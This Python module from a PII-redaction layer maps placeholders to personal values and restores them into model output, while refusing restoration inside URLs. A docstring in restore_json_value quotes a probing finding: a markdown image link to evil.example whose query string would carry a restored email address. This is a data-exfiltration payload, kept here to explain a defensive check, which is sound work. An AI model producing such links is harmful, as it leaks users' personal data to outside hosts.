"""The plaintext of one scope: placeholder <-> value, its counters, and putting values back
into text. Only ever held in memory; the vault seals it before it is stored."""

from __future__ import annotations

import re
from collections.abc import Collection, Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any

from charter.pii.placeholders import (
    entity_type_of,
    find_placeholders,
    format_placeholder,
    is_placeholder,
    number_of,
)
from charter.pii.url_spans import url_spans

_MAX_RESERVED = 1_000_000
"""A placeholder numbered higher than this is never reached by a scope's counter: not
reserved (a made-up `<EMAIL_ADDRESS_99999999999>` cannot stretch the next one)."""


@dataclass(slots=True)
class Entry:
    entity_type: str
    value: str
    numeric: bool = False
    """The value was a JSON number; restore_json gives a number back."""
    withheld: bool = False
    """Issued for a value the model produced (`Scope.withheld_view`): never restored."""
    taken: bool = False
    """Handed to a call other than the one that issued it (`Mapping.assign_all`): the
    issuer's retraction leaves it, since that other call may be sending it to the model."""


@dataclass(slots=True)
class Mapping:
    counters: dict[str, int] = field(default_factory=dict)
    entries: dict[str, Entry] = field(default_factory=dict)  # placeholder -> entry
    index: dict[tuple[str, str], str] = field(default_factory=dict)  # (type, value) -> ph

    @classmethod
    def from_json(cls, data: dict[str, Any]) -> Mapping:
        mapping = cls(counters={k: int(v) for k, v in data["counters"].items()})
        for placeholder, entity_type, value, numeric, *flags in data["entries"]:
            withheld, taken = (bool(f) for f in [*flags, 0, 0][:2])
            entry = Entry(entity_type, value, bool(numeric), withheld, taken)
            mapping.entries[placeholder] = entry
            mapping.index[(entity_type, value)] = placeholder
        return mapping

    def to_json(self) -> dict[str, Any]:
        return {
            "counters": self.counters,
            "entries": [  # flags only when set: older blobs read the same
                [p, e.entity_type, e.value, int(e.numeric), *_flags(e)]
                for p, e in self.entries.items()
            ],
        }

    def reserve(self, placeholders: Iterable[str]) -> bool:
        """Never issue `placeholders` that this scope does not hold: they came in from
        outside it, so no value of its own takes their name, and restoring never puts one
        of its values in their place. True when a counter moved."""
        moved = False
        for placeholder in placeholders:
            if placeholder in self.entries:
                continue
            entity_type, number = entity_type_of(placeholder), number_of(placeholder)
            if self.counters.get(entity_type, 0) < number <= _MAX_RESERVED:
                self.counters[entity_type] = number
                moved = True
        return moved

    def assign_all(
        self,
        items: Sequence[tuple[str, str, bool]],
        callers: str,
        withheld_view: bool,
        fresh: list[str] | None,
    ) -> tuple[list[str], bool]:
        """Placeholders for `(entity_type, value, numeric)` items and whether the mapping
        changed. `fresh`, when given, is the calling call's list of placeholders it issued
        new: those issued here are added to it, and an existing one it did not issue is
        marked taken, so the call that did issue it cannot retract it from under this one
        (found by probing: a denied call's retraction removed the placeholder a concurrent
        allowed call of the same conversation had just sent to the model, whose answer then
        kept it unrestored, and the next turn numbered the same person anew)."""
        out: list[str] = []
        changed = False
        for entity_type, value, numeric in items:
            withheld = withheld_view and not said_by_caller(value, callers, entity_type)
            placeholder, is_new = self.assign(entity_type, value, numeric, withheld)
            out.append(placeholder)
            if fresh is None:
                changed = changed or is_new
            elif is_new:
                fresh.append(placeholder)
                changed = True
            elif placeholder not in fresh and not self.entries[placeholder].taken:
                self.entries[placeholder].taken = True
                changed = True
        return out, changed

    def assign(
        self, entity_type: str, value: str, numeric: bool, withheld: bool = False
    ) -> tuple[str, bool]:
        """The placeholder for `value` and whether it is new. An existing placeholder keeps
        how it was first issued: a value the caller gave stays restorable when the model
        repeats it, and one the model produced is not made restorable by a later prompt."""
        existing = self.index.get((entity_type, value))
        if existing is not None:
            return existing, False
        if withheld:  # the caller's own value in the model's spelling is still the caller's
            same = erase_form(value)
            for placeholder, entry in self.entries.items():
                if (
                    not entry.withheld
                    and entry.entity_type == entity_type
                    and erase_form(entry.value) == same
                ):
                    return placeholder, False
        number = self.counters.get(entity_type, 0) + 1  # never reused, even after erase
        self.counters[entity_type] = number
        placeholder = format_placeholder(entity_type, number)
        self.entries[placeholder] = Entry(entity_type, value, numeric, withheld)
        self.index[(entity_type, value)] = placeholder
        return placeholder, True

    def take_back(self, placeholders: Iterable[str]) -> bool:
        """`retract` those of `placeholders` no other call was handed (`Entry.taken`)."""
        entries = self.entries
        return self.retract([p for p in placeholders if p in entries and not entries[p].taken])

    def retract(self, placeholders: Iterable[str]) -> bool:
        """Forget `placeholders` and their values; the counters stay, so a number is never
        issued again for another value. True when one was held."""
        held = [p for p in placeholders if p in self.entries]
        for placeholder in held:
            entry = self.entries.pop(placeholder)
            self.index.pop((entry.entity_type, entry.value), None)
        return bool(held)


def _flags(entry: Entry) -> list[int]:
    """An entry's stored flags: [] (none), [1] (withheld), [w, 1] (taken)."""
    if entry.taken:
        return [int(entry.withheld), 1]
    return [1] if entry.withheld else []


_ERASE_NORMALIZE = re.compile(r"[\s\-().]")


_DIGIT_RUN = re.compile(r"\+?\d[\d\s\-().]*\d")


def said_by_caller(value: str, callers: str, entity_type: str = "") -> bool:
    """Whether `value` stands in `callers` (casefolded): as a word, or, for a phone number,
    as the digits of one of the numbers written there (`+442079460958` for `+44 20 7946
    0958`). Whole words and whole numbers only: a short name is not "said" inside another
    word, and an address is not said by the digits it holds (found by review)."""
    if not callers:
        return False
    needle = value.casefold()
    if re.search(rf"(?<!\w){re.escape(needle)}(?!\w)", callers):
        return True
    if entity_type != "PHONE_NUMBER":
        return False
    digits = re.sub(r"\D", "", needle)
    if len(digits) < 7:
        return False
    return any(re.sub(r"\D", "", run) == digits for run in _DIGIT_RUN.findall(callers))


def erase_form(value: str) -> str:
    """How values compare for erasure: `+90 532 123 45 67` and `+905321234567` match."""
    return _ERASE_NORMALIZE.sub("", value).casefold()


@dataclass(frozen=True, slots=True)
class Restoration:
    """Text with this scope's values put back, and what was refused: placeholders of the
    same conversation issued to another principal, and placeholders left in a URL (entity
    type -> count; no values)."""

    text: str
    refused: dict[str, int]
    in_url: dict[str, int] = field(default_factory=dict)


def restore_text(
    text: str,
    entries: dict[str, Entry],
    entities: Collection[str] | None,
    urls: Sequence[tuple[int, int]] = (),
) -> tuple[str, list[str], list[str]]:
    """`text` with the values of `entries` put back (types in `entities` only; never a
    withheld one), the placeholders found that `entries` does not hold (issued elsewhere,
    or made up), and those it would have put back but left because they stand in one of
    `urls` (sorted spans of `text`): a value written into a URL leaves with the request a
    rendered link or image makes."""
    parts: list[str] = []
    unknown: list[str] = []
    in_url: list[str] = []
    spans = iter(urls)
    span = next(spans, None)
    last = 0
    for occ in find_placeholders(text):
        entry = entries.get(occ.placeholder)
        if entry is None:
            unknown.append(occ.placeholder)
            continue
        if entry.withheld or (entities is not None and entry.entity_type not in entities):
            continue
        while span is not None and span[1] <= occ.start:
            span = next(spans, None)
        if span is not None and span[0] < occ.end:
            in_url.append(occ.placeholder)
            continue
        parts += [text[last : occ.start], entry.value]
        last = occ.end
    parts.append(text[last:])
    return "".join(parts), unknown, in_url


def restore_json_value(
    value: Any, entries: dict[str, Entry], entities: Collection[str] | None
) -> Any:
    """`restore_text` over every string in a JSON value, dict keys included (redaction
    reads them too), never into a URL one holds (found by review probing:
    `{"answer": "![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>)"}` had the value
    written into the image URL, as plain `restore` no longer did); a string that is
    exactly the placeholder of a number becomes that number again."""

    def text(node: str) -> str:
        return restore_text(node, entries, entities, url_spans(node))[0]

    def walk(node: Any) -> Any:
        if isinstance(node, str):
            entry = entries.get(node) if is_placeholder(node) else None
            allowed = (
                entry is not None
                and not entry.withheld
                and (entities is None or entry.entity_type in entities)
            )
            if entry is not None and allowed and entry.numeric:
                return int(entry.value)
            return text(node) if "_" in node else node
        if isinstance(node, dict):
            return {key(k): walk(v) for k, v in node.items()}
        if isinstance(node, list | tuple):
            return [walk(v) for v in node]
        return node

    def key(k: Any) -> Any:
        return text(k) if isinstance(k, str) and "_" in k else k

    return walk(value)
